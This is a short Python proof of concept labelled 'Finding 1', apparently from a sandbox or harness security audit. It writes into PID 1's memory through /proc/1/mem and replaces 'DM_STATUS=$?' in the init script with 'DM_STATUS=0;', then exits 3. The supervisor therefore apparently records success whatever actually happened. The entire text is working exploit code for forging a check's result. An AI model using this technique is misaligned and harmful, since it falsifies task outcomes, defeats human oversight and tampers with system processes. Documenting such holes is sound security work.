# Finding 1, write: replace `DM_STATUS=$?` in PID 1's not-yet-parsed script with
# `DM_STATUS=0;` through /proc/1/mem, then exit 3.
ranges = maps_of_pid1()
fd = attempt("open(/proc/1/mem, O_RDWR)", os.open, "/proc/1/mem", os.O_RDWR)
patched = 0
if fd is not None:
    for lo, hi, name in readable(ranges):
        try:
            data = os.pread(fd, hi - lo, lo)
        except OSError:
            continue
        for m in re.finditer(re.escape(b"DM_STATUS=$?"), data):
            if attempt(f"pwrite(/proc/1/mem @{lo + m.start():x} {name})", os.pwrite, fd, b"DM_STATUS=0;", lo + m.start()):
                patched += 1
    (ok if patched else fail)("script-patched", patched)
sys.exit(3)
